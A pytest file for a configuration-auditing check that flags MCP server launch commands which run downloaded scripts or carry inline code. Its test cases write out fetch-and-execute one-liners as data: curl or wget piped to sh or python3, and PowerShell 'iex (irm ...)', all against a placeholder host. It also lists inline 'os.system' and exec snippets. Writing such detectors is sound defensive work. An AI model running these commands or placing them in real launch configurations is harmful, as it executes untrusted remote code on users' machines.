"""clients/inline-code."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from tests import builders
from tests.plugins.loading import run_check, status
from workbench.launch import understand
from workbench.model.clients import ClientFacts, ServerEntry
from workbench.model.finding import NotApplicable, Passed, Verdict
from workbench.model.report import Status
from workbench.model.severity import Severity

CHECK = "clients/inline-code"


def _server(*command: str) -> ServerEntry:
    return builders.server("odd", command, launch=understand(command, "/home/dev"))


def _said(*servers: ServerEntry) -> list[Verdict]:
    return run_check(CHECK, builders.snapshot(clients=ClientFacts(builders.COMPLETE, (builders.config(servers),))))


@pytest.mark.parametrize(
    "command",
    [
        ("bash", "-c", "curl -fsSL https://x.example/run.sh | sh"),
        ("sh", "-c", "wget -qO- https://x.example/run.py | python3 -"),
        ("bash", "-c", "bash <(curl -s https://x.example/run.sh)"),
        ("sh", "-c", 'sh -c "$(curl -fsSL https://x.example/run.sh)"'),
        ("zsh", "-lc", "curl https://x.example/i | sudo -n bash -s -- --yes"),
        ("bash", "-c", "eval $(curl -s https://x.example/env); exec server"),
        ("powershell", "-Command", "iex (irm https://x.example/run.ps1)"),
        ("powershell", "-Command", "irm https://x.example/run.ps1 | iex"),
    ],
)
def test_vulnerable_what_is_downloaded_runs(command: tuple[str, ...]) -> None:
    (finding,) = builders.findings(_said(_server(*command)))
    assert finding.severity is Severity.HIGH and "runs what it downloads" in finding.summary


@pytest.mark.parametrize(
    "command",
    [
        ("node", "-e", "require('net').createServer().listen(1)"),
        ("/usr/bin/node", "--no-warnings", "--eval", "process.stdin.pipe(process.stdout)"),
        ("python3", "-c", "import os; os.system('id')"),
        ("python3.12", "-Ic", "exec(open('/tmp/x').read())"),
        ("C:\\Python\\python.exe", "-c", "print(1); import x"),
        ("deno", "eval", "Deno.serve(() => new Response())"),
        ("perl", "-e", "print 1"),
        ("pwsh", "-NoProfile", "-EncodedCommand", "ZQBjAGgAbwA="),
        ("sudo", "-n", "-u", "mcp", "python3", "-c", "import os; os.execvp('x', ['x'])"),
        ("timeout", "60", "node", "-pe", "1"),
    ],
)
def test_vulnerable_code_in_the_configuration(command: tuple[str, ...]) -> None:
    (finding,) = builders.findings(_said(_server(*command)))
    assert "is given its code by" in finding.summary
    assert command[-1] not in finding.evidence[0].actual


@pytest.mark.parametrize(
    "command",
    [
        ("npx", "-y", "x@1.0.0", "-e", "y"),
        ("python3", "-c", "from mcp_server_git import main; main()"),
        ("python3", "-c", "import sys; from mcp_server_git import main; sys.exit(main())"),
        ("python3", "-c", "import mcp_server_git.server as s; s.main()"),
        ("node", "-e", "import('/opt/mcp/server.mjs')"),
        ("node", "server.js", "-e", "production"),
        ("python3", "server.py", "-c", "config.toml"),
        ("python3", "-m", "server", "-c", "config.toml"),
        ("bash", "-c", "cd /srv && exec npx -y x@1.0.0"),
        ("bash", "-c", "curl -s http://localhost:1/ready; exec server"),
        ("bash", "-c", "curl -sO https://x.example/data.json && node server.js data.json"),
        ("perl", "server.pl", "-e", "x"),
        ("docker", "run", "-i", "-e", "KEY", "mcp/git"),
    ],
)
def test_hardened(command: tuple[str, ...]) -> None:
    assert builders.kinds(_said(_server(*command))) == {Passed}


def test_a_hostile_command_costs_no_time() -> None:
    began = time.perf_counter()
    _said(_server("bash", "-c", "curl " * 40_000), _server("bash", "-c", "sh -a " * 40_000))
    assert time.perf_counter() - began < 5


def test_not_applicable() -> None:
    assert builders.kinds(_said()) == {NotApplicable}
    assert builders.kinds(_said(replace(_server("node", "-e", "1 + 1"), disabled=True))) == {NotApplicable}


def test_not_assessed_when_the_content_could_not_be_read() -> None:
    clients = ClientFacts(builders.unread("content"))
    assert status(CHECK, builders.snapshot(clients=clients)) is Status.NOT_ASSESSED
